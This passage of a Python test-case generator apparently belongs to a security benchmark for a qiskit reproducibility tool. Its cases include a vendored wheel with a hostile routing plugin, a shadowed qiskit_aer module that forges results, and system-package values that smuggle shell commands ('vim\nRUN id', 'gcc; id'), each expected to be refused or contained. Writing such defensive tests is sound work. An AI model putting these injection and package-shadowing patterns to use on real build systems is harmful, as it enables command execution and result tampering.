             "outside and prints a marker when imported",
             "evaluate", expect(0, "complete", absent=[OUTSIDE_NAME],
                                forbidden=["QREPRO-HOSTILE-PLUGIN-RAN"]),
             vendored({"plugin-1.0-py3-none-any.whl": stack_wheel(
                 "plugin", "1.0", {"hostile_plugin.py": PLUGIN},
                 "[qiskit.transpiler.routing]\nhostile = hostile_plugin:Plugin\n")},
                 forged=False),
             args=CODE, runs_code=True, timeout_s=500),
        Case("path-shadow-stack-module", "paths",
             "a qiskit_aer package in the deposit forging the recorded counts",
             "evaluate", expect(1, "complete", denied=("reproduced",)), shadow_stack_module),
        Case("env-python-3.7", "environments", 'python: "3.7" (no such base here)',
             "evaluate", expect(4, "error", "3.7", denied=_NOTHING_RUNS),
             edit_ghz(_set_env(python="3.7")), args=CODE, runs_code=True, timeout_s=400),
        Case("env-system-package-newline", "environments", 'system package "vim\\nRUN id"',
             "evaluate", refused("not a Debian package name", "qdata.yaml",
                                 "environment.system_packages[0]"),
             edit_ghz(_set_env(system_packages=["vim\nRUN id"])), args=CODE),
        Case("env-system-package-semicolon", "environments", 'system package "gcc; id"',
             "evaluate", refused("not a Debian package name", "qdata.yaml",
                                 "environment.system_packages[0]"),
             edit_ghz(_set_env(system_packages=["gcc; id"])), args=CODE),
    ]
    return host + code


def _nb(case_id: str, what: str, outcome: dict[str, Any], build: Builder,
        extra: tuple[str, ...] = ()) -> Case:
    return Case(case_id, "notebooks", what, "evaluate", outcome, build,
                args=(*CODE, *extra), runs_code=True, timeout_s=400)


CASES: tuple[Case, ...] = tuple(_cases())
BY_ID: dict[str, Case] = {c.id: c for c in CASES}
assert len(BY_ID) == len(CASES), "case ids must be unique"


# --- entry points -------------------------------------------------------------------------


def build_case(case: Case | str, outdir: Path) -> tuple[Path, dict[str, Any]]:
    """Build one case into OUTDIR (with the canary); returns its deposit and its record."""
    case = BY_ID[case] if isinstance(case, str) else case
    ctx = Context(Path(outdir).resolve())
    ctx.write_canary()
    path = case.build(ctx.outdir / case.id, ctx)
    return path, case.record(path.name)


def generate(outdir: Path, only: Iterable[str] = ()) -> list[dict[str, Any]]:
    """Write every case (or the cases named in ``only``) into OUTDIR plus OUTDIR/cases.json;
    returns the case records."""
    outdir = Path(outdir)
    wanted = set(only)
    unknown = wanted - set(BY_ID)
    if unknown:
        raise KeyError(f"no such case: {', '.join(sorted(unknown))}")
    records = [build_case(case, outdir)[1] for case in CASES if not wanted or case.id in wanted]
    (outdir / CASES_FILE).write_text(json.dumps(records, indent=1) + "\n", encoding="utf-8")
    return records


def outcome_text(case: Case) -> str:
    """The expected outcome in words (README table)."""
    e = case.expect
    codes = e["exit"] if isinstance(e["exit"], list) else [e["exit"]]
    parts = [f"exit {'/'.join(str(c) for c in codes)}"]
    if e["status"]:
        parts.append(f"status {e['status']}")
    if e["kind_or_code"]:
        parts.append(f"`{e['kind_or_code']}`")
    if e["names"]:
        parts.append("error names " + ", ".join(f"`{n}`" for n in e["names"]))
    if case.command == "evaluate" and e["badges_denied"]:
        denied = set(e["badges_denied"]) == set(BADGES)
        parts.append("no badge" if denied else "no " + ", ".join(e["badges_denied"]))
    if e["absent"]:
        parts.append("nothing written at " + ", ".join(f"`{a}`" for a in e["absent"]))
    if e["forbidden"]:
        parts.append("never shows " + ", ".join(f"`{f}`" for f in e["forbidden"]))
    return "; ".join(parts)


def markdown_table() -> str:
    rows = ["| case id | what it tries | expected outcome |", "|---|---|---|"]
    for case in CASES:
        what = case.what.replace("|", "\\|")
        how = "" if case.command == "evaluate" else " (`validate`)"
        rows.append(f"| `{case.id}`{how} | {what} | {outcome_text(case)} |")
    return "\n".join(rows) + "\n"


def main(argv: list[str]) -> int:
    if len(argv) < 2 or argv[1].startswith("-"):
        print("usage: python -m benchmarks.hostile.generate OUTDIR [CASE_ID ...]",
              file=sys.stderr)
        return 2
    try:
        records = generate(Path(argv[1]), argv[2:])
    except KeyError as exc:
        print(f"generate: {exc.args[0]}", file=sys.stderr)
        return 2
    print(f"{len(records)} cases written to {argv[1]} (see {CASES_FILE})")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
